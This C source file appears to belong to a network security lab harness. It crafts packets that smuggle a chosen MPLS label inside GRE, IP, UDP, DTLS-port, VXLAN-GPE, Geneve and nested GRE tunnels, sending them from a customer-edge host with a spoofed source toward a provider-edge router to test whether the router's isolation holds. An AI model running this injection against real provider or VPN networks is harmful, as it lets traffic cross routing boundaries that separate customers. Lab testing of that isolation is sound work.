#include "lab/attacks/tunnelled.h"

#include <errno.h>

#define ETH_MPLS 0x8847
#define ETH_IPV4 0x0800
#define CORE	 "10.255.0.2" /* where what is nested leads: a router of the core */

enum { PROTO_IPIP = 4, PROTO_UDP = 17, PROTO_GRE = 47, PROTO_MPLS = 137 };
enum { PORT_VXLAN_GPE = 4790, PORT_GENEVE = 6081, PORT_MPLS = 6635, PORT_MPLS_DTLS = 6636 };
enum { FROM = 49152, GPE_MPLS = 5 };

static void tunnelled_ip(struct frame *f, const struct tunnelled *t, uint8_t protocol)
{
	frame_ip(f, &(struct frame_ip){.src = t->src, .dst = t->dst, .protocol = protocol});
}

static void tunnelled_gre(struct frame *f, const struct tunnelled *t)
{
	tunnelled_ip(f, t, PROTO_GRE);
	frame_gre(f, ETH_MPLS);
}

static void tunnelled_mpls(struct frame *f, const struct tunnelled *t)
{
	tunnelled_ip(f, t, PROTO_MPLS);
}

static void tunnelled_port(struct frame *f, const struct tunnelled *t, uint16_t port)
{
	tunnelled_ip(f, t, PROTO_UDP);
	frame_udp(f, FROM, port);
}

static void tunnelled_udp(struct frame *f, const struct tunnelled *t)
{
	tunnelled_port(f, t, PORT_MPLS);
}

static void tunnelled_udp_bare(struct frame *f, const struct tunnelled *t)
{
	tunnelled_port(f, t, PORT_MPLS);
	frame_udp_unsummed(f);
}

static void tunnelled_dtls(struct frame *f, const struct tunnelled *t)
{
	tunnelled_port(f, t, PORT_MPLS_DTLS);
}

static void tunnelled_vxlan(struct frame *f, const struct tunnelled *t)
{
	static const uint8_t gpe[] = {0x0c, 0, 0, GPE_MPLS, 0, 0, 1, 0};

	tunnelled_port(f, t, PORT_VXLAN_GPE);
	frame_octets(f, gpe, sizeof gpe);
}

static void tunnelled_geneve(struct frame *f, const struct tunnelled *t)
{
	static const uint8_t geneve[] = {0, 0, ETH_MPLS >> 8, ETH_MPLS & 0xff, 0, 0, 1, 0};

	tunnelled_port(f, t, PORT_GENEVE);
	frame_octets(f, geneve, sizeof geneve);
}

static void tunnelled_nested(struct frame *f)
{
	frame_ip(f, &(struct frame_ip){.src = "172.16.66.66", .dst = CORE, .protocol = PROTO_GRE});
	frame_gre(f, ETH_MPLS);
}

static void tunnelled_ip_gre(struct frame *f, const struct tunnelled *t)
{
	tunnelled_ip(f, t, PROTO_IPIP);
	tunnelled_nested(f);
}

static void tunnelled_gre_gre(struct frame *f, const struct tunnelled *t)
{
	tunnelled_ip(f, t, PROTO_GRE);
	frame_gre(f, ETH_IPV4);
	tunnelled_nested(f);
}

void tunnelled_send(struct attack_stage *st, struct attack_impact *out, const struct tunnelled *t)
{
	static void (*const outer[TUNNELLED_KINDS])(struct frame *, const struct tunnelled *) = {
		[TUNNELLED_GRE] = tunnelled_gre,
		[TUNNELLED_IP] = tunnelled_mpls,
		[TUNNELLED_UDP] = tunnelled_udp,
		[TUNNELLED_UDP_BARE] = tunnelled_udp_bare,
		[TUNNELLED_DTLS] = tunnelled_dtls,
		[TUNNELLED_VXLAN] = tunnelled_vxlan,
		[TUNNELLED_GENEVE] = tunnelled_geneve,
		[TUNNELLED_IP_GRE] = tunnelled_ip_gre,
		[TUNNELLED_GRE_GRE] = tunnelled_gre_gre,
	};
	uint8_t to[6], from[6];
	struct frame f;

	if (t->label < 0)
		out->error = -ENOENT;
	if (out->error || !attack_mac(st, "pe1:eth2", to) || !attack_mac(st, "ce-a1:eth1", from))
		return;
	frame_begin(&f, to, from);
	outer[t->kind](&f, t);
	frame_label(&f, (uint32_t)t->label, 0, true, 64);
	frame_ip(&f, &(struct frame_ip){.src = "172.16.66.66",
			     .dst = t->into ? t->into : "172.16.1.1",
			     .protocol = PROTO_UDP});
	frame_udp(&f, 4000, 7);
	frame_nonce(&f, st->nonce, out->sent + 1);
	frame_end(&f);
	out->error = attack_send(st, "ce-a1:eth1", f.octets, f.len);
	out->sent += !out->error;
}

bool tunnelled_ends(struct attack_stage *st, struct attack_impact *out)
{
	uint8_t mac[6];

	if (attack_mac(st, "pe1:gre1", mac) && attack_mac(st, "pe1:mpls1", mac))
		return true;
	out->skip =
		"this kernel has no tunnels for MPLS in GRE and in IP (modprobe -a ip_gre ipip)";
	return false;
}
